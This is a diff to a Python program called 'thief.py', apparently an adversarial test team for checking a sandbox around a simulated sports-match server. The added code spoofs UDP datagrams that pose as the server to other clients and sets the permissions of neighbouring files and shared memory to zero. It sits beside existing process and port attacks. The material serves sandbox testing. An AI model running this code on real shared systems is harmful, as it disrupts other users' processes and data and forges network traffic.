@@ -1,20 +1,27 @@
 """A program of a sandboxed team that reaches for all that is not its own, until it is ended: other
 processes by limits, priorities, cores and signals; players and coaches by reconnects and by their
-names; the referee as a monitor; ports. It prints what it was given.
+names; the referee as a monitor; ports; in namespaces also clients by datagrams in the name of the
+server, files by their permissions, shared memory. It prints what it was given.
 
     thief.py PLAYER_PORT COACH_PORT TEAM...
 """
+import glob
 import os
 import pathlib
 import resource
 import select
 import signal
 import socket
+import struct
 import sys
 import time
 
 # Landlock keeps signals to others from this version of Linux on.
 SIGNALS_STAY = tuple(int(part) for part in os.uname().release.split(".")[:2]) >= (6, 12)
+
+
+# The first process is then the keeper of this program.
+IN_NAMESPACES = pathlib.Path("/proc/1/comm").read_text(encoding="ascii").startswith("of ")
 
 
 def taken(what):
@@ -93,6 +100,46 @@ def attack_server(teams, ports):
                 peer.sendto(b"(bye)\0", ("127.0.0.1", port))
 
 
+def own_sockets():
+    for link in glob.glob("/proc/[0-9]*/fd/*"):
+        try:
+            yield os.readlink(link)
+        except OSError:
+            pass
+
+
+def forge():
+    """Sends to the clients of others from the server's ports, held on another address."""
+    own = set(own_sockets())
+    entries = [line.split() for line in pathlib.Path("/proc/net/udp").read_text().splitlines()[1:]]
+    own_ports = {words[1].split(":")[1] for words in entries if f"socket:[{words[9]}]" in own}
+    source = struct.pack("=i4s4s", 0, socket.inet_aton("127.0.0.1"), bytes(4))
+    for words in entries:
+        port, peer = words[1].split(":")[1], words[2].split(":")[1]
+        if int(peer, 16) == 0 or peer in own_ports:
+            continue
+        taken(f"the connection of a stranger: {words[1]} to {words[2]}")
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as forger:
+            forger.bind(("127.0.0.2", int(port, 16)))
+            forger.sendmsg([b"(hear 100 referee time_over)"], [(socket.IPPROTO_IP, 8, source)], 0,
+                           ("127.0.0.1", int(peer, 16)))
+
+
+def attack_files():
+    """What lies beside this team, and all shared memory."""
+    here = os.getcwd()
+    temporary = os.path.dirname(os.environ["TMPDIR"])
+    for path in [*glob.glob(here + "/../*"), *glob.glob(temporary + "/*"), *glob.glob("/dev/shm/*")]:
+        own = (here, os.path.realpath(os.environ["TMPDIR"]))
+        if any(f"{folder}/".startswith(os.path.realpath(path) + "/") for folder in own):
+            continue
+        try:
+            os.chmod(path, 0)
+        except OSError:
+            continue
+        taken("permissions of " + path)
+
+
 def squat():
     """Holds some of the ports that others may want next."""
     held = []
@@ -115,6 +162,9 @@ def main():
             if pid not in ancestors():
                 attack_process(pid)
         attack_server(sys.argv[3:], ports)
+        if IN_NAMESPACES:
+            forge()
+            attack_files()
         time.sleep(0.1)
 
 
